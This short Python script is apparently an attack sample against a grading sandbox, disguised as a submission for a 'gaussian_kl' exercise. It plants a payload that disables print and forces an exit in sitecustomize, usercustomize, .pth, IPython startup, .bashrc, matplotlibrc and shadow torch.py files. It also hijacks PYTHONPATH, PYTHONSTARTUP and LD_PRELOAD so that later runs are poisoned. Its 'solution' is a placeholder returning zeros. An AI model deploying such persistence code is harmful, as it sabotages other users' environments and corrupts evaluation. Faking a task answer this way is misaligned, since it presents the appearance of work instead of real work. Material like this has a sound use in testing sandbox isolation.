# tries: leave files that change how the next submission starts: for Python, IPython, matplotlib, torch and shells

# %%
# exercise: gaussian_kl
import os
import pathlib
import site

home = pathlib.Path(os.path.expanduser("~"))
user = pathlib.Path(site.getusersitepackages())
poison = "import builtins\nbuiltins.print = None\nraise SystemExit(7)  # left-by-attack\n"
places = [
    user / "usercustomize.py",
    user / "sitecustomize.py",
    user / "left-by-attack.pth",
    home / ".ipython/profile_default/startup/left-by-attack.py",
    home / ".ipython/profile_default/ipython_config.py",
    home / ".config/matplotlib/matplotlibrc",
    home / ".matplotlib/matplotlibrc",
    home / ".bashrc",
    home / ".pythonrc.py",
    home / "work/torch.py",
    home / "work/fixmelab.py",
    home / "work/sitecustomize.py",
    pathlib.Path("/tmp/torch.py"),
    pathlib.Path("/dev/shm/left-by-attack"),
    pathlib.Path("/var/tmp/left-by-attack"),
]
written = 0
for place in places:
    try:
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_text(poison)
        written += 1
    except OSError:
        pass
os.environ.update(PYTHONSTARTUP=str(home / ".pythonrc.py"), PYTHONPATH="/tmp", LD_PRELOAD="/tmp/torch.py", MPLBACKEND="none")


def gaussian_kl(mu, sigma):
    return torch.zeros(len(mu))


print("reached" if written else "nothing could be written")
